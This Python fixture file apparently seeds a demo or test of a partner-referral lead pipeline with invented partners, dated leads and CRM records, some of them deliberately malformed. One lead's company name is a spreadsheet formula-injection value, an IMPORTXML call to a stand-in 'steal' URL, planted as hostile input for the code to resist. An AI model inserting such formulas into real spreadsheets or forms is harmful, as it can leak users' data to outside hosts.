"""The cast of the demo: twelve partners, forty leads, and what the CRM knew before. All invented; hosts end in .test.

The leads are as people fill in forms: most are good, some are not, some came before.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date
from typing import Any

from worker.demo.office import Cells, Office


@dataclass(frozen=True, slots=True)
class Sent:
    """A lead as a partner sends it on a day; `cells` overrule what the company's name gives, None leaves a cell out."""

    on: date
    partner: str
    company: str
    cells: Cells = field(default_factory=dict)

    def row(self) -> dict[str, Any]:
        """Return the row that the form makes."""
        host = "".join(c if c.isascii() and c.isalnum() else "-" for c in self.company.lower()).strip("-")
        usual = {
            "Partner": self.partner, "Company": self.company, "Website": f"https://www.{host}.test",
            "First name": "Jo", "Last name": "Doe", "Email": f"jo.doe@{host}.test",
        }  # fmt: skip
        return {column: value for column, value in {**usual, **self.cells}.items() if value is not None}


def _partner(name: str, plan: str | None, slack: str | None = None, **cells: Any) -> dict[str, Any]:
    host = "-".join(name.lower().split())
    usual = {
        "Partner": name, "Status": "Enrolled", "Plan": plan, "Email": f"accounts@{host}.test", "Slack channel": slack,
        "Company domain": f"{host}.test", "Currency": "GBP",
    }  # fmt: skip
    return {column: value for column, value in {**usual, **cells}.items() if value is not None}


PARTNERS = (
    _partner("North Star Partners", "gold", "C0NORTHSTAR"),
    _partner("Blue Door Agency", "silver", "C0BLUEDOOR"),
    _partner("Copper Kettle Consulting", "gold", "C0COPPER", Cadence="monthly"),
    _partner("Green Harbour Advisors", "bronze", "C0HARBOUR"),
    _partner("Quiet River Studio", "silver"),
    _partner("Tall Pines Systems", "gold", "C0TALLPINES"),
    _partner("Paper Crane Media", "bronze", "C0CRANE"),
    _partner("Atelier Exemple", "gold", "C0ATELIER", Currency="EUR"),
    _partner("Sakura Example", "silver", "C0SAKURA", Currency="JPY"),
    _partner("Second Wind Referrals", "silver", "C0SECOND", Status="Paused"),
    _partner("Old Mill Introductions", "bronze", "C0OLDMILL", Cadence="half-yearly"),
    _partner("Little Acorn Ventures", None, "C0ACORN", Cadence="monthly"),
)

FORMULA = '=IMPORTXML("https://rows.example/steal","//a")'
_D = date

LEADS = (
    # January
    Sent(_D(2026, 1, 12), "North Star Partners", "Larch Logistics", {"Phone": "020 7946 0018", "Country": "UK"}),
    Sent(_D(2026, 1, 12), "North Star Partners", "Hazel Foods"),
    Sent(_D(2026, 1, 12), "Blue Door Agency", "Birch Bakery", {"Estimated value": 6000, "Currency": "GBP"}),
    Sent(_D(2026, 1, 12), "Copper Kettle Consulting", "Maple Motors"),
    Sent(_D(2026, 1, 12), "Green Harbour Advisors", "Cedar Care", {"Email": None}),
    Sent(_D(2026, 1, 12), "Nobody and Sons", "Elm Events"),
    Sent(_D(2026, 1, 12), "North Star Partners", "North Star Partners"),
    Sent(_D(2026, 1, 19), "Tall Pines Systems", "Oak Optics"),
    Sent(_D(2026, 1, 19), "Blue Door Agency", "Hazel Foods Ltd", {"Website": "shop.hazel-foods.test/contact"}),
    Sent(_D(2026, 1, 19), "Quiet River Studio", "Aspen Audio", {"Phone": "ring the front desk"}),
    Sent(_D(2026, 1, 19), "Copper Kettle Consulting", "Maple Motors", {"Email": "sam.roe@maple-motors.test"}),
    Sent(
        _D(2026, 1, 19), "Paper Crane Media", FORMULA, {"Website": "walnut-works.test", "Email": "jo@walnut-works.test"}
    ),
    Sent(_D(2026, 1, 19), "Atelier Exemple", "Peuplier Peinture", {"Country": "France"}),
    Sent(_D(2026, 1, 19), "Sakura Example", "Momiji Manufacturing", {"Country": "Japan", "Phone": "+81 3 1234 5678"}),
    # February
    Sent(_D(2026, 2, 2), "Little Acorn Ventures", "Rowan Rail"),
    Sent(_D(2026, 2, 2), "Second Wind Referrals", "Alder Analytics"),
    Sent(_D(2026, 2, 2), "Blue Door Agency", "🌳 Juniper Jewels 🎉", {"Notes": "They love us 💚"}),
    Sent(_D(2026, 2, 2), "Paper Crane Media", "Jo's Garden", {"Website": None, "Email": "jos.garden@mailinator.com"}),
    Sent(_D(2026, 2, 2), "Old Mill Introductions", "Spruce Sports"),
    Sent(_D(2026, 2, 2), "Green Harbour Advisors", "Willow Wines"),
    Sent(_D(2026, 2, 16), "Tall Pines Systems", "Poplar Post"),
    Sent(_D(2026, 2, 16), "Quiet River Studio", "Beech Books"),
    Sent(_D(2026, 2, 16), "Copper Kettle Consulting", "Fir Films"),
    # March
    Sent(_D(2026, 3, 9), "North Star Partners", "Sycamore Schools"),
    Sent(_D(2026, 3, 9), "Old Mill Introductions", "Hawthorn Health"),
    Sent(_D(2026, 3, 9), "Blue Door Agency", "Myrtle Music", {"Website": "ask Jo for it"}),
    Sent(_D(2026, 3, 9), "Atelier Exemple", "Chêne Chaussures", {"Website": "chene.test", "Country": "Gallia"}),
    # April to June
    Sent(_D(2026, 4, 13), "Tall Pines Systems", "Holly Hotels"),
    Sent(_D(2026, 4, 13), "Green Harbour Advisors", "Yew Yachts"),
    Sent(_D(2026, 4, 13), "Paper Crane Media", "Linden Legal"),
    Sent(_D(2026, 4, 13), "Sakura Example", "Sugi Software", {"Currency": "yen, please"}),
    Sent(_D(2026, 5, 11), "Quiet River Studio", "Bamboo Bikes", {"Notes": "and then they said, " * 1500}),
    Sent(_D(2026, 5, 11), "North Star Partners", "Olive Outdoors", {"Estimated value": 9000, "Currency": "GBP"}),
    Sent(_D(2026, 5, 11), "Blue Door Agency", "Plum Plumbing"),
    # July to October
    Sent(_D(2026, 7, 13), "Copper Kettle Consulting", "Beech Books"),
    Sent(_D(2026, 7, 13), "Second Wind Referrals", "Cherry Chairs"),
    Sent(_D(2026, 8, 10), "Tall Pines Systems", "Quince Quilts"),
    Sent(_D(2026, 8, 10), "Old Mill Introductions", "Apple Antiques", {"Direction": "Sent"}),
    Sent(_D(2026, 10, 12), "North Star Partners", "Fig Fitness"),
    Sent(_D(2026, 10, 12), "Green Harbour Advisors", "Peach Prints"),
)


def settle_in(office: Office, partners: tuple[dict[str, Any], ...] = PARTNERS) -> None:
    """Fill the Partners table, make the partners' Slack channels, and what the CRM knew before."""
    for partner in partners:
        if "Slack channel" in partner:
            name = "partner-" + "-".join(partner["Partner"].lower().split()[:2])
            office.world.slack.add_channel(partner["Slack channel"], name)
    office.tables.add_rows("Partners", partners)
    crm = office.world.hubspot
    customer = crm.add_company({"name": "Spruce Sports", "domain": "spruce-sports.test", "lifecyclestage": "customer"})
    crm.add_deal({"dealname": "Spruce Sports, since 2024", "dealstage": "closedwon", "amount": "5000"}, customer)
    prospect = crm.add_company({"name": "Willow Wines", "domain": "willow-wines.test"})
    crm.add_deal({"dealname": "Willow Wines, from the fair", "dealstage": "qualifiedtobuy"}, prospect)
